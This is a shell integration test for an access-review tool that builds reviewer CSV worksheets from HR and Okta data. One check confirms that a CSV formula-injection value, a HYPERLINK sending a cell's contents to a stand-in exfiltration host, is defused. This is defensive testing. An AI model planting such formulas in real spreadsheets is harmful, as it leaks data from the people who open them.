#!/bin/sh
# it_review.sh: `rollcall review open` end to end on case 18's data
# (tests/data/review/): HR import, accounts import, reconcile, worksheets.
set -u
ROLLCALL=${ROLLCALL:-$(pwd)/build/rollcall}
D=$(pwd)/tests/data/review
tmp=$(mktemp -d "${TMPDIR:-/tmp}/it_review.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
chmod 700 "$tmp"
umask 022
failed=0

ok() { echo "ok - $1"; }
not_ok() { echo "not ok - $1"; failed=1; }
check() {	# name, then a command that must succeed
	name=$1
	shift
	if "$@"; then ok "$name"; else not_ok "$name"; fi
}

rc() {
	"$ROLLCALL" -d "$tmp/r.db" -c "$D/rollcall.conf" --as-of 2026-12-03 "$@"
}

for step in init "import hr $D/hr.csv" "import accounts okta $D/okta-accounts.csv" \
    "reconcile"; do
	# shellcheck disable=SC2086
	if ! rc $step >"$tmp/out" 2>"$tmp/err"; then
		cat "$tmp/err"
		not_ok "setup: rollcall $step"
		exit 1
	fi
done

check "review open --help exits 0" \
    sh -c "'$ROLLCALL' review open --help >/dev/null"
rc review open Q4-2026 --format pdf >/dev/null 2>"$tmp/err"
check "review open --format pdf: exit 1, unknown format" \
    sh -c "[ $? -eq 1 ] && grep -q \"unknown format 'pdf'\" '$tmp/err'"

mkdir "$tmp/open" && chmod 777 "$tmp/open"
rc review open Q4-2026 --out "$tmp/open" >/dev/null 2>"$tmp/err"
check "world-writable --out: exit 2, no campaign left behind" \
    sh -c "[ $? -eq 2 ] && grep -q 'writable by everyone' '$tmp/err'"

rc review open Q4-2026 --due 2026-12-31 --out "$tmp/ws" >/dev/null \
    2>"$tmp/err"
check "review open Q4-2026: exit 0" [ $? -eq 0 ]
check "summary on stderr names items and the folder" \
    grep -q "9 items (8 recommended for revocation) for 2 reviewers; worksheets in $tmp/ws/" "$tmp/err"
f=$tmp/ws/E1800-lea.csv
check "worksheets for E1800 and unassigned, and index.csv" \
    sh -c "[ -f '$f' ] && [ -f '$tmp/ws/unassigned.csv' ] && [ -f '$tmp/ws/index.csv' ] && [ \$(ls '$tmp/ws' | wc -l) -eq 3 ]"
check "Lea owns okta and has no manager: her own account is not hers to review" \
    sh -c "! grep -q lea.marchetti '$f' && grep -q lea.marchetti '$tmp/ws/unassigned.csv' && grep -qF \"E1800 would review their own account 'lea.marchetti@example.com' in source 'okta'\" '$tmp/err'"
check "worksheet starts with a UTF-8 BOM" \
    sh -c "head -c 3 '$f' | od -An -tx1 | grep -q 'ef bb bf'"
check "every line ends in CRLF" \
    awk '!/\r$/ { bad = 1 } END { exit bad }' "$f"
check "case 18: E1801's name arrives as text" \
    grep -qF "\"'=HYPERLINK(\"\"https://exfil.example.invalid/?d=\"\"&C2,\"\"Open\"\")\"" "$f"
check "case 18: Okta displayName =2+5 defused" grep -qF ",'=2+5," "$f"
check "case 18: 17 days since termination, unprefixed" \
    grep -qF ",terminated_active,17,revoke,RV-" "$f"
check "index.csv lists E1800 with 8 items, 8 to revoke" \
    grep -qF "E1800,Lea,lea.marchetti@example.com,E1800-lea.csv,8,8" "$tmp/ws/index.csv"
check "worksheet folder not world-writable" \
    sh -c "! ls -ld '$tmp/ws' | cut -c9 | grep -q w"
# umask 022 (set above) would give 0755 and 0644: identity data is 0700/0600
check "worksheet folder rollcall created is 0700" \
    sh -c "[ \$(stat -c %a '$tmp/ws') = 700 ]"
check "worksheets and index.csv are 0600" \
    sh -c "[ \"\$(stat -c %a '$tmp/ws'/* | sort -u)\" = 600 ]"
check "no temporary file left behind" \
    sh -c "[ -z \"\$(ls -A '$tmp/ws' | grep '^\\.')\" ]"

# A folder already in use (another campaign's worksheets, anything): exit
# 1 naming it, before any reconcile; nothing of ours left there.
mkdir -p "$tmp/fail/unassigned.csv"
rc review open Q1-2027 --out "$tmp/fail" >/dev/null 2>"$tmp/err"
check "a folder in use: exit 1, named" \
    sh -c "[ $? -eq 1 ] && grep -q \"folder '$tmp/fail' is not empty\" '$tmp/err'"
check "... and nothing of it left in the folder" \
    sh -c "[ \"\$(ls -A '$tmp/fail')\" = unassigned.csv ]"
rmdir "$tmp/fail/unassigned.csv"
rc review open Q1-2027 --out "$tmp/fail" >/dev/null 2>"$tmp/err"
check "... and the campaign can be opened again" \
    sh -c "[ $? -eq 0 ] && [ -f '$tmp/fail/index.csv' ]"

rc review open Q4-2026 --out "$tmp/again" >/dev/null 2>"$tmp/err"
check "the same campaign name again: exit 1" \
    sh -c "[ $? -eq 1 ] && grep -q \"campaign 'Q4-2026' already exists\" '$tmp/err'"

"$ROLLCALL" -q -d "$tmp/empty.db" -c "$D/rollcall.conf" init
"$ROLLCALL" -d "$tmp/empty.db" -c "$D/rollcall.conf" review open Q1 \
    --out "$tmp/q1" >/dev/null 2>"$tmp/err"
check "no HR roster: exit 2" \
    sh -c "[ $? -eq 2 ] && grep -q 'no HR roster imported (rollcall import hr FILE)' '$tmp/err'"
exit $failed
